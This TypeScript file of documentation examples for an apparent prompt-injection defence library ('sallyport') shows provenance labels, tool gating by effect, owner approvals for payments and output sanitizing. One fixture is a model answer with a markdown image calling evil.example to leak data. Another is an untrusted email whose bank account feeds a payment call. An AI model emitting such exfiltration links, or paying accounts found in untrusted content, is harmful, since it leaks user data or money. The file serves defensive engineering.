// The code on the pages about concepts.
import assert from 'node:assert/strict';
import { createBoundary, defineTool, prompt, source } from 'sallyport';

const page = 'Trains are booked by the office.';
const mail = 'The bath is done, that makes 120 euros. My account: DE02 1203. Best, Jan';
const answer = 'Jan asks for 120 euros. ![logo](https://evil.example/l.png?q=120)';
const show = (text: string) => console.log(text);

{
  const conversation = createBoundary().conversation('sources');
  // #region sources
  const tools = [
    defineTool({ name: 'read_mail', origin: 'external', effect: 'read' }), // anyone can write an email
    defineTool({ name: 'today', trusted: true, effect: 'read' }), // no outsider can write a byte of it
  ];
  conversation.addUserMessage('Sum up my mail.'); // origin: user
  conversation.addContent({ source: source('retrieved', { name: 'handbook' }), content: page });
  // #endregion sources
  assert.deepEqual(
    conversation.records.map(({ label }) => label.integrity),
    ['user', 'retrieved'],
  );
  assert.deepEqual(
    tools.map((tool) => tool.source.origin),
    ['external', 'system'],
  );
}

{
  const boundary = createBoundary({ tools: [defineTool({ name: 'read_mail', origin: 'external', effect: 'read' })] });
  // #region conversation
  const conversation = boundary.conversation('chat-1');
  conversation.addUserMessage('What is new?'); // 1 record
  const { system, entries } = await conversation.request({ policy: prompt`You read mail.` }); // 2 frame, 3 read
  const { outcome } = await conversation.check({ id: 'call-1', tool: 'read_mail', arguments: {} }); // 4 check
  if (outcome === 'allow') conversation.addToolResult({ id: 'call-1', tool: 'read_mail', content: mail }); // 1 again
  show(conversation.sanitizeOutput(answer).text); // 5 sanitize
  // #endregion conversation
  assert.ok(system.startsWith('You read mail.') && entries.length === 1);
  assert.equal(conversation.records.length, 2);
}

{
  // #region roles
  const pay = defineTool({ name: 'pay', effect: 'spend', roles: { where: 'recipient', note: 'text' } });
  // #endregion roles
  const boundary = createBoundary({ tools: [pay] });
  const conversation = boundary.conversation('roles');
  conversation.addUserMessage('Pay the plumber 120 euros.');
  conversation.addContent({ source: source('external', { name: 'mail' }), content: mail });
  await conversation.request();
  const decision = await conversation.check({
    id: 'call-1',
    tool: 'pay',
    arguments: { where: 'DE02 1203', amount: 120 },
  });
  assert.equal(decision.cell, 'spend, content');
}

{
  // #region policy
  const boundary = createBoundary({
    gate: {
      preset: 'balanced', // the default
      vouch: ['billing@example.com'], // values that you trust
      table: { spend: { content: 'deny' } }, // your own decision in one cell: no judge changes it
    },
  });
  // #endregion policy
  assert.ok(boundary.conversation('policy'));
}

{
  const boundary = createBoundary({ tools: [defineTool({ name: 'pay', effect: 'spend' })] });
  const conversation = boundary.conversation('chat-1', { owner: 'ann' });
  conversation.addUserMessage('Pay the plumber 120 euros, his account is in the mail.');
  conversation.addContent({ source: source('external', { name: 'mail' }), content: mail });
  await conversation.request();
  const call = { id: 'call-1', tool: 'pay', arguments: { account: 'DE02 1203', amount: 120 } };
  assert.equal((await conversation.check(call)).outcome, 'ask');
  // #region approvals
  const [held] = await boundary.pending({ conversation: 'chat-1', owner: 'ann' });
  if (held) {
    console.log(held.decision.reason, held.decision.evidence);
    await boundary.settle(held.id, { outcome: 'approve', by: 'ann', scope: 'task' });
    // or: { outcome: 'reject', by: 'ann', note: 'This is not our account.' }
  }
  // #endregion approvals
  assert.equal((await conversation.check(call)).outcome, 'allow');
}
